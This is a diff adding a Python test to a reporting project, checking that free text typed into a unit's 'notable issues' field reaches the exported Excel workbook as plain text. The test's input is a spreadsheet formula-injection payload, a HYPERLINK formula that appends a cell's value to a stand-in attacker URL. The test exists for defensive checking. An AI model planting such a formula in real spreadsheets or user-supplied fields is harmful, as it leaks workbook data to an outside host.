@@ -209,3 +209,23 @@ def test_the_period_summary_is_exported_to_excel(period) -> None:
         2,
         "供暖",
     )
+
+
+def test_notable_issues_typed_as_a_formula_are_exported_as_text(period) -> None:
+    """A unit's free text reaches the Office's workbook as the text it is, never as a formula to evaluate."""
+    typed = '=HYPERLINK("http://evil.example/"&A1,"点此查看")'
+    with time_machine.travel(at(2026, 12, 1, 10), tick=False):
+        zero_report_submit(
+            actor=user("officer"),
+            period=period,
+            unit=unit("logistics"),
+            day=DAY,
+            is_zero=False,
+            new_requests=1,
+            notable=typed,
+        )
+    out = io.BytesIO()
+    write_period_summary(period, out)
+    detail = load_workbook(io.BytesIO(out.getvalue())).worksheets[1]
+    cell = detail.cell(row=2, column=5)
+    assert (cell.value, cell.data_type) == (typed, "s")
